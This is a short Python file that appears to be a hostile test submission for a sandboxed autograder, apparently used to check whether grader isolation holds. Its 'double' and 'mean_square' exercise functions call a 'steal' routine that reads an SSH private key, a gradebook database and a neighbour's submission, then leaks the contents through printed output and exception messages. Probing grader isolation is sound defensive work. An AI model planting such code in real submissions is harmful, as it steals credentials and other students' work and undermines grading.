# technique: the key in the home folder, the gradebook, a neighbour's work
# live: evidence: the files are open to the grader's user
# outcome: raised
# says: refused
# not at process: it can read what the grader's user can read
import os

WORLD = "/tmp/attacked-world-47113"


def steal():
    found = []
    for name in ("home/.ssh/id_rsa", "home/gradebook.db", "neighbour/victim.py", "course/exercises/course.toml"):
        try:
            with open(f"{WORLD}/{name}") as stream:
                found.append(stream.read()[-40:])
        except OSError:
            continue
    if not found:
        raise PermissionError("none")
    return found


def double(x):
    try:
        loot = str(steal())
    except BaseException as error:
        raise RuntimeError(f"refused: {type(error).__name__}") from None
    print("EVIDENCE:", loot)
    raise RuntimeError("EVIDENCE" + ": " + loot)


def mean_square(x):
    return double(x)


def step(w, learning_rate):
    raise RuntimeError("not this one")
